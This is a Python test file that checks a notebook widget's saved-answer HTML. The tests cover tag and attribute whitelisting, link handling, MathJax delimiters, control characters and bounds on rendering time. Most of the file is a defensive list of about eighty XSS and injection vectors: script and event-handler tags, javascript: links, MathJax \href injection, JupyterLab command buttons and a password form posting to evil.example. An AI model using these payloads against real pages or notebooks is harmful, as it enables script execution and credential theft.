"""The saved answer is safe by itself, loses nothing, and never makes a cut answer look whole."""

from __future__ import annotations

import json
import re
import time
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, get_args

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from streamwidget._core.completion import STEP_BREAK, ChatCompletion, ErrorInfo, Step, Timing, ToolCall
from streamwidget._core.cost import Cost
from streamwidget._core.events import Outcome, StreamWarning, Usage
from streamwidget._core.visible import one_line, visible
from streamwidget._saved import answer, code, dress, html
from streamwidget._saved.answer import MAX_MARKDOWN, footer, mimebundle
from streamwidget._saved.html import MAX_BRACKETS, MAX_NESTING, render
from tests.saved.rules import undressed

TAGS = set(
    re.findall(
        r"\w+",
        "p br hr em strong s code pre a ul ol li blockquote h1 h2 h3 h4 h5 h6 table thead tbody tr th td span details "
        "summary small bdi div",
    )
)
STYLES = {
    "p": {answer._HEAD, answer._FOLD, answer._FOOT, dress.TO_THE_RIGHT},
    "blockquote": {dress.QUOTE_TO_THE_RIGHT},
    "table": {dress.TABLE},
    "span": {opened.split('"')[1] for opened in code._OPEN.values()},
    "details": {answer._FOLD},
    "summary": {answer._SUMMARY},
    "pre": {"white-space:pre-wrap", dress.FRAME, dress.FRAME + code._VARIABLES},
}
TEXT = '<div class="streamwidget-text jp-RenderedHTMLCommon" style="padding:0;overflow-wrap:break-word">'
VOID = {"br", "hr"}
LINK = {"rel": "noopener noreferrer nofollow", "target": "_blank"}


class Page(HTMLParser):
    """Read HTML like a browser, and refuse every tag and attribute outside of the list."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.hrefs: list[str] = []
        self.exposed = ""  # the text that MathJax reads, with a NUL for each tag between
        self._open: list[str] = []
        self.feed(html)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        self.exposed += "\0"
        given = dict(attrs)
        assert len(given) == len(attrs)
        assert given.pop("dir", "auto") == "auto"
        if tag == "a":
            href = given.pop("href")
            assert href is not None
            assert re.match(r"(https?://[^/\s]|mailto:)", href, re.IGNORECASE), href
            assert len(href) <= 2048
            assert not re.search(r"[\s<>\"\x00-\x1f]", href)
            self.hrefs.append(href)
            assert given == LINK
        elif tag == "code" and given and "summary" in self._open:
            assert given == {"style": answer._NAME}
        elif tag == "code" and given:
            assert re.fullmatch(r"language-[a-z0-9+-]{1,30}", given.pop("class", "language-x") or "")
            assert given in ({}, {"style": dress.CODE})
        elif tag == "ol" and given:
            assert (given.pop("start") or "").isdigit()
            assert given == {}
        elif tag in ("th", "td") and given:
            assert given["style"] in {"text-align:left", "text-align:center", "text-align:right"}
            assert set(given) == {"style"}
        elif tag in ("span", "small", "strong") and "class" in given:
            shown = " ".join(f'{name}="{value}"' for name, value in given.items())
            assert shown in {form for full in (answer._QUIET, answer._BAD) for form in (full, full.split(" ")[0])}
        elif tag in STYLES and given:
            assert given["style"] in STYLES[tag]
            assert set(given) == {"style"}
        elif tag == "div" and given == {"style": answer._STEP}:
            assert self._open[-1] == "details"
        elif tag == "div":
            classes = ("jp-RenderedHTMLCommon", "streamwidget-text", "streamwidget-step-text")
            assert set((given.pop("class") or "").split()) <= set(classes)
            assert given == {"style": "padding:0;overflow-wrap:break-word"}
        else:
            assert given == {}, (tag, given)
        if tag not in VOID:
            if tag == "a":
                assert "a" not in self._open
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.exposed += "\0"
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data
        self.exposed += "" if {"pre", "code"} & set(self._open) else data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"processing instruction {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"declaration {data}")


def answer_of(html: str) -> str:
    """Return the answer's part of the HTML."""
    return html.split(TEXT, 1)[1].split("</div>", 1)[0]


def page(text: str, **fields: Any) -> Page:
    html = mimebundle(ChatCompletion(text=text, **fields))["text/html"]
    Page(html)
    return Page(answer_of(html))


XSS = [
    "<script>window.__pwn=1</script>",
    "</script><script>window.__pwn=1</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<img src=x onerror=window.__pwn=1>",
    "<img/src=x/onerror=window.__pwn=1>",
    "<svg onload=window.__pwn=1>",
    "<svg><script>window.__pwn=1</script></svg>",
    "<svg><animate onbegin=window.__pwn=1 attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.__pwn=1>#x'/></svg>",
    "<math><mi xlink:href='javascript:window.__pwn=1'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src onerror=window.__pwn=1>",
    "<iframe src=javascript:window.__pwn=1></iframe>",
    "<iframe srcdoc='<script>window.__pwn=1</script>'></iframe>",
    "<object data=javascript:window.__pwn=1></object>",
    "<embed src=javascript:window.__pwn=1>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:window.__pwn=1>x</button>",
    "<input autofocus onfocus=window.__pwn=1>",
    "<details open ontoggle=window.__pwn=1>x</details>",
    "<body onload=window.__pwn=1>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<button data-commandlinker-command='notebook:run-all' data-commandlinker-args='{}'>x</button>",
    "<a data-commandlinker-command='terminal:create-new'>x</a>",
    "<div id=MathJax>x</div>",
    "<div id='MathJax_Message' class='MathJax'>x</div>",
    "<a name=getElementById>x</a>",
    "<form id=document><input name=cookie></form>",
    "<video src=https://evil.example/v onloadstart=window.__pwn=1>",
    "<audio src=https://evil.example/a onerror=window.__pwn=1>",
    "<template><img src=x onerror=window.__pwn=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwn=1>'>",
    "<textarea></textarea><img src=x onerror=window.__pwn=1>",
    "<!--><img src=x onerror=window.__pwn=1>-->",
    "<![CDATA[><img src=x onerror=window.__pwn=1>]]>",
    "<?xml-stylesheet href='javascript:window.__pwn=1'?>",
    "<x onclick=window.__pwn=1 style=display:block>x",
    "[x](javascript:window.__pwn=1)",
    "[x](JaVaScRiPt:window.__pwn=1)",
    "[x](java&#x73;cript:window.__pwn=1)",
    "[x](javascript&colon;window.__pwn=1)",
    "[x](<java\tscript:window.__pwn=1>)",
    "[x](&#1;javascript:window.__pwn=1)",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>window.__pwn=1</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](#MathJax)",
    "[x](command:notebook.run)",
    '[x](https://a.example/"onmouseover="window.__pwn=1)',
    "[x](https://a.example/ \"t' onmouseover='window.__pwn=1\")",
    "[x](https://a.example/'><script>window.__pwn=1</script>)",
    "[x][r]\n\n[r]: javascript:window.__pwn=1",
    "<javascript:window.__pwn=1>",
    '<https://a.example/"onmouseover=window.__pwn=1>',
    "![x](https://evil.example/p.png)",
    '![x"onerror="window.__pwn=1](https://evil.example/p.png)',
    "![x](data:image/svg+xml,<svg onload=window.__pwn=1>)",
    "[![x](https://i.example/k)](https://l.example/m)",
    "![<script>window.__pwn=1</script>](https://[evil)",
    '```"><script>window.__pwn=1</script>\nx\n```',
    "```html\n</code></pre><script>window.__pwn=1</script>\n```",
    "```x onclick=window.__pwn=1\nx\n```",
    "`</code><script>window.__pwn=1</script>`",
    "| <script> | x |\n|-|-|\n| <img src=x onerror=window.__pwn=1> | `</td><script>` |",
    "# <script>window.__pwn=1</script> {#MathJax .x onclick=1}",
    "&lt;script&gt;window.__pwn=1&lt;/script&gt;",
    "&#60;script&#62;window.__pwn=1&#60;/script&#62;",
    "$\\href{javascript:window.__pwn=1}{x}$",
    "$$\\class{x}{\\cssId{MathJax}{\\style{position:fixed}{x}}}$$",
    "\\\\(\\href{javascript:window.__pwn=1}{x}\\\\)",
    "\\begin{equation}\\href{javascript:window.__pwn=1}{x}\\end{equation}",
    "$x</p><script>window.__pwn=1</script>y$",
    "$\\html{<img src=x onerror=window.__pwn=1>}$",
    "\\def\\x{\\href{javascript:window.__pwn=1}{x}} $\\require{html}\\x$",
]


@pytest.mark.parametrize("vector", XSS)
def test_no_vector_becomes_markup(vector: str) -> None:
    """Nothing of a vector becomes a tag, an attribute or a TeX command, in any field of a completion."""
    fields: dict[str, Any] = {
        "text": vector,
        "reasoning": vector,
        "refusal": vector,
        "model": vector,
        "outcome": "error",
        "error": ErrorInfo(vector, kind=vector),
        "tool_calls": (ToolCall(vector, vector, vector),),
    }
    for name, value in fields.items():
        bundle = mimebundle(ChatCompletion(**({"text": "x", "outcome": "error"} | {name: value})))
        shown = Page(bundle["text/html"])
        if name == "text" and vector.startswith("<"):
            assert re.sub(r"\s", "", vector.strip("<>")) in re.sub(r"\s", "", shown.text)
        assert no_unsafe_tex(shown)
    Page(mimebundle(ChatCompletion(**fields))["text/html"])


def no_unsafe_tex(shown: Page) -> bool:
    """No text that MathJax reads has both a delimiter and a command with effects outside of the formula."""
    return not any(
        re.search(r"\$|\\[(\[]|\\begin", run) and re.search(r"\\(href|class|cssId|style|require|html|def)", run)
        for run in shown.exposed.split("\0")
    )


MARKDOWN = st.text(alphabet="ab1 \n\t`*_~[]()!<>#-+=|:\\$&;\"'/.{}^", max_size=60)
PIECES = st.lists(
    st.sampled_from(
        [
            *XSS[::3],
            "\n\n",
            "- ",
            "> ",
            "```\n",
            "[a]",
            "]: http://x.y/",
            "\n",
            "$",
            "**",
            "|-|\n",
            "\\",
            "$$\n",
            "\\begin{align}",
            "<br>",
            "|",
        ]
    )
    | MARKDOWN,
    max_size=8,
).map("".join)


@given(st.text() | MARKDOWN | PIECES, st.sampled_from([None, *get_args(Outcome)]), st.booleans())
@settings(max_examples=300, deadline=None)
def test_any_text_gives_listed_markup_only(text: str, outcome: Outcome | None, everywhere: bool) -> None:
    """Random text never raises, and only listed tags and attributes appear."""
    completion = ChatCompletion(
        text=text,
        outcome=outcome,
        reasoning=text if everywhere else "",
        refusal=text if everywhere else "",
        model=text if everywhere else None,
        error=ErrorInfo(text, kind=text) if everywhere else None,
        tool_calls=(ToolCall(None, None, text),) if everywhere else (),
    )
    bundle = mimebundle(completion)
    Page(bundle["text/html"])
    assert set(bundle) <= {"text/html", "text/plain", "text/markdown"}
    json.dumps(bundle).encode()
    for value in bundle.values():
        value.encode()
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", value)


@given(st.text(alphabet="ab1 \n\t`*_~#>-+=|:.()é", max_size=80))
@settings(deadline=None)
def test_the_markup_is_that_of_markdown_it(text: str) -> None:
    """Line breaks and tags are markdown-it's own, so that the swap from the live view moves nothing."""
    parser = MarkdownIt("commonmark", {"html": False, "xhtmlOut": False, "maxNesting": MAX_NESTING})
    expected = parser.enable(["table", "strikethrough"]).render(text)
    expected = re.sub(r' class="language-([^"]*)"', lambda m: _expected_class(m[1]), expected)
    assert undressed(render(text)[0]) == expected


def _expected_class(name: str) -> str:
    return f' class="language-{name.lower()}"' if re.fullmatch(r"[a-z0-9+-]{1,30}", name.lower()) else ""


@pytest.mark.parametrize(
    ("text", "portable"),
    [
        ("plain *text* and `code`", True),
        ("```html\n<div>![x](y)</div>\n```", True),
        ("a < b and 2 > 1", True),
        ("[link](https://a.example)", True),
        ("costs $5 and $6", True),
        ("![x](https://a.example/p.png)", False),
        ("![x][r]\n\n[r]: https://a.example/p.png", False),
        ("[![x](https://a.example/p.png)](https://b.example)", False),
        ("- > ![x](https://a.example/p.png)", False),
        ("a <b>bold</b>", False),
        ("<div>\n\nx", False),
        ("a <!-- x --> b", False),
        ("| <b> |\n|-|\n| x |", False),
        ("a$`$ ![x](https://a.example/p.png) `", False),
        ("", False),
    ],
)
def test_markdown_is_saved_only_without_images_and_raw_html(text: str, portable: bool) -> None:
    """JupyterLab's Markdown renderer is not safe for model text, so it gets no text with an image or raw HTML."""
    assert ("text/markdown" in mimebundle(ChatCompletion(text=text, outcome="complete"))) is portable


def test_an_image_is_a_link_that_says_so() -> None:
    """Images are not loaded. The reader sees the description and the host."""
    shown = page("![a *cat*](https://user@evil.example:8/p.png?q=1)")
    assert shown.text.startswith('Image "a cat" (not loaded, evil.example:8)')
    assert shown.hrefs == ["https://user@evil.example:8/p.png?q=1"]


def test_a_link_elsewhere_stays_as_typed() -> None:
    """A link that is not followed is shown as typed."""
    for source in (
        "[x](javascript:alert(1))",
        "[x](ftp://a.example)",
        f"[x](https://a.example/{'y' * 2048})",
        "[x](y.html)",
    ):
        shown = page(source)
        assert source in shown.text
        assert shown.hrefs == []
    assert page("[x](MAILTO:a@b.example)").hrefs == ["mailto:a@b.example"]


@pytest.mark.parametrize(
    ("text", "math"),
    [
        ("It costs $5 and $6.", []),
        ("from $5-$6 each", []),
        ("\\$x$ is not", []),
        ("&#36;x&#36;", []),
        ("`$x$`", []),
        ("Euler: $e^{i\\pi} + 1 = 0$, and $a_1 * b * c_1$.", ["$e^{i\\pi} + 1 = 0$", "$a_1 * b * c_1$"]),
        ("$$\n\\sum_{i=1}^n i < 5\n$$", ["$$\n\\sum_{i=1}^n i < 5\n$$"]),
        ("so \\(x*y*z\\) and \\[a\\]", ["\\(x*y*z\\)", "\\[a\\]"]),
        ("$x$ and $5", ["$x$"]),
        ("$\\left( x \\right)$", ["$\\left( x \\right)$"]),
    ],
)
def test_money_stays_money_and_math_is_left_for_the_host(text: str, math: list[str]) -> None:
    """MathJax finds each whole formula, and no pair of delimiters elsewhere."""
    found = re.findall(r"\$\$[^\0]*?\$\$|\$[^\0$]*?\$|\\\([^\0]*?\\\)|\\\[[^\0]*?\\\]", page(text).exposed)
    assert found == math


def test_controls_are_shown_as_signs() -> None:
    """Each format shows control, bidi, zero-width and tag characters. A lone surrogate becomes U+FFFD."""
    text = "a\x00b\x1b[31mc\rd\x7fe\x9bf\u202eg\u2066h\u200bi\ufeffj\U000e0041k\ud83d l&#x202E;m"
    bundle = mimebundle(ChatCompletion(text=text, outcome="complete", model=text, error=ErrorInfo(text)))
    expected = "a␀b␛[31mc␍d␡e[U+009B]f[U+202E]g[U+2066]h[U+200B]i[U+FEFF]j[U+E0041]k\ufffd l"
    assert expected in Page(bundle["text/html"]).text
    assert "l[U+202E]m" in Page(bundle["text/html"]).text
    assert expected in bundle["text/plain"]
    assert expected in bundle["text/markdown"]


@given(st.text())
def test_visible_is_idempotent_and_keeps_what_scripts_need(text: str) -> None:
    """Visible text stays unchanged. Emoji joiners, flags, word breaks, tabs and newlines are kept."""
    assert visible(visible(text)) == visible(text)
    kept = (
        "a\tb\n👩\u200d🔬 \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f می\u200cخواهم \u200f"
        "สวัสดี\u200bชาว ລາວ\u200bx မြန်\u200bမာ y\u200bខ្មែរ"
    )
    assert visible(kept) == kept
    assert visible("a\r\nb\ud83d\ude00") == "a\nb😀"


def test_one_line_is_one_line_and_bounded() -> None:
    """A server's message of any size becomes one line of bounded length."""
    assert one_line("a\n b\t\x1b") == "a b ␛"
    assert one_line("x" * 1000, 10) == "x" * 9 + "…"


WHOLE = {"complete"}


@pytest.mark.parametrize("outcome", [None, *get_args(Outcome)])
@pytest.mark.parametrize(
    "text",
    ["Half an ans", "- item\n  - deep", "```python\nx = (", "~~~\n```\nx", "> ```\n> x", "| a |\n|-|", "    code"],
)
def test_a_cut_answer_never_looks_whole(outcome: Outcome | None, text: str) -> None:
    """Each format ends in a separate line on how the answer ended, even after an open code block."""
    completion = ChatCompletion(text=text, outcome=outcome, error=ErrorInfo("The server went away."), model="m-1")
    bundle = mimebundle(completion)
    said = footer(completion)
    assert said.endswith("complete") is (outcome in WHOLE)
    assert bundle["text/plain"].splitlines()[-1] == f"[{said}]"
    assert f"m-1 · {Page(bundle['text/html']).text.rstrip().splitlines()[-1]}" == said
    if "text/markdown" in bundle:
        assert Page(render(bundle["text/markdown"])[0]).text.rstrip().splitlines()[-1] == said
    else:
        assert text.startswith(">")


def test_the_footer_tells_model_outcome_tokens_and_times() -> None:
    """One line: demo mark, model, outcome in words, tokens, time to the first delta, total time."""
    completion = ChatCompletion(
        text="x", outcome="complete", model="m", demo=True, usage=Usage(1, 42, 43), timing=Timing(0.314, 12.345, 3)
    )
    assert footer(completion) == "demo · m · complete · 42 tokens · first token 0.31 s · total 12.3 s"
    demo = ChatCompletion(outcome="complete", model="demo", demo=True)
    assert footer(demo) == "demo server (no model) · complete, but the answer is empty"
    stalled = ChatCompletion(outcome="timeout", error=ErrorInfo("Nothing came within 30 s"))
    assert footer(stalled) == "no answer: timed out (Nothing came within 30 s)"
    refused = ChatCompletion(outcome="http_error", error=ErrorInfo("401: the key was\nrefused."))
    assert footer(refused) == "no answer: 401: the key was refused"


def test_the_providers_own_words_are_text_in_the_line() -> None:
    """Under the answer stands the sentence with which a provider explains the end. No HTML of it is HTML."""
    explained = StreamWarning("end_explained", "<img src=x onerror=alert(1)> for $2")
    html = mimebundle(ChatCompletion("a", outcome="complete", warnings=(explained,)))["text/html"]
    assert "&lt;img src=x onerror=alert(1)&gt; for <span>$</span>2" in html


SAVED = json.loads((Path(__file__).parents[2] / "js/test/saved_answers.json").read_text("utf-8"))


@pytest.mark.parametrize("case", SAVED, ids=[case["name"] for case in SAVED])
def test_the_saved_answer_has_the_elements_of_the_live_one(case: dict[str, Any]) -> None:
    """The page's tests hold the live view to the same HTML (js/test/saved/shape.test.ts)."""
    state = case["state"]
    timing, tokens = state["timing"], state["tokens"]
    steps = [
        Step(one["text"], tool_calls=tuple(ToolCall(None, **call) for call in one["tool_calls"]))
        for one in [*state.get("steps", []), state]
    ]
    completion = ChatCompletion(
        text=STEP_BREAK.join(step.text for step in steps if step.text),
        reasoning=state["reasoning"],
        refusal=state["refusal"],
        tool_calls=tuple(call for step in steps for call in step.tool_calls),
        steps=tuple(steps) if len(steps) > 1 else (),
        outcome=state["outcome"],
        error=ErrorInfo(state["detail"]) if state["detail"] else None,
        timing=Timing(**timing),
        usage=None if tokens is None else Usage(1204, tokens, None, *((900, 64) if "spent" in state else ())),
        cost=Cost(0.0012) if "spent" in state else Cost(),
        model=state["model"],
        demo=state["demo"],
        mark=state.get("mark", ""),
        warnings=(StreamWarning("bad_json", state["missing"]),) if "missing" in state else (),
    )
    html = mimebundle(completion)["text/html"]
    assert undressed(html) == case["html"]
    assert html == case.get("dressed", html)
    Page(case["html"])


def test_reasoning_refusal_and_tool_calls_are_there() -> None:
    """Reasoning, a refusal and tool calls are saved too, folded or marked."""
    bundle = mimebundle(
        ChatCompletion(
            reasoning="because *it* is",
            refusal="No.",
            outcome="complete",
            tool_calls=(ToolCall("1", "find", '{"q": 1}'),),
        )
    )
    html = bundle["text/html"]
    assert "<p>because <em>it</em> is</p>\n</div></details>" in html
    assert Page(html).text.split("\n")[0:2] == ["", "Thoughtbecause it is"]
    assert "<strong>The model refused:</strong></p>\n<blockquote><p>No.</p></blockquote>" in html
    assert "find</code> <small>{&quot;q&quot;: 1}</small></summary><pre><code>{&quot;q&quot;: 1}</code></pre>" in html
    assert bundle["text/plain"] == 'The model refused: No.\n\nTool call: find({"q": 1})\n\n[complete]'


@pytest.mark.parametrize(
    "text",
    [
        "> " * (MAX_NESTING + 5) + "deep",
        "".join("  " * n + "- x\n" for n in range(MAX_NESTING)) + "deep",
        "[" * (MAX_BRACKETS + 1) + "deep",
        "x\n" * (MAX_MARKDOWN // 2) + "deep",
        "x" * MAX_MARKDOWN + "deep",
    ],
    ids=["quotes", "lists", "brackets", "long", "one long line"],
)
def test_what_is_too_deep_or_too_long_is_shown_as_text(text: str) -> None:
    """Text beyond the bounds of the parser is saved whole as plain text, and not as Markdown."""
    bundle = mimebundle(ChatCompletion(text=text, outcome="complete"))
    assert "text/markdown" not in bundle
    answer = answer_of(bundle["text/html"])
    assert answer.startswith(('<pre style="white-space:pre-wrap">', "<p>[[["))
    assert Page(answer).text.replace("\n", "") == text.replace("\n", "")


def test_a_failure_of_the_renderer_gives_the_text(monkeypatch: pytest.MonkeyPatch) -> None:
    """If the parser raises, the answer is saved as escaped text."""

    def fail(*_: Any, **__: Any) -> Any:
        raise RecursionError

    monkeypatch.setattr(html, "parse", fail)
    bundle = mimebundle(ChatCompletion(text="<b>\nx", outcome="complete"))
    assert answer_of(bundle["text/html"]) == '<pre style="white-space:pre-wrap">&lt;b&gt;\nx</pre>\n'
    assert answer.footer(ChatCompletion()) == "not finished"


def test_reference_amplification_is_bounded() -> None:
    """A long target with many references is not repeated for each. The words stay."""
    text = f"[a]: https://a.example/{'x' * 2000}\n\n" + ("[a] " * 1000 + "\n\n") * 4
    html = mimebundle(ChatCompletion(text=text))["text/html"]
    assert len(html) < 10 * len(text) + 100_000
    assert len(re.findall(r"\ba\b", Page(html).text)) >= 4000


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![",
        "**a ",
        "*_",
        "> ",
        "- ",
        "<!--",
        "&",
        "\\(",
        "$$a",
        "$a",
        "|",
        "`e``",
        "~~a ",
        "[a](",
        "\\[\n",
        "- $$a\n",
        "|$a",
        "|\\(",
        "$`a",
        "\\begin{align}\n",
        "**注：**",
    ],
)
def test_hostile_patterns_take_time_in_proportion(unit: str) -> None:
    """Four times the text takes about four times the time, and nothing raises.

    Both are measured in the same moment, and the best of several moments counts: the machine may be busy in the others.
    """

    def cost(size: int) -> float:
        text = unit * (size // len(unit))
        start = time.process_time()
        mimebundle(ChatCompletion(text=text))
        return time.process_time() - start

    cost(500)
    assert any(cost(8_000) < 12 * max(cost(2_000), 0.002) for _ in range(5))
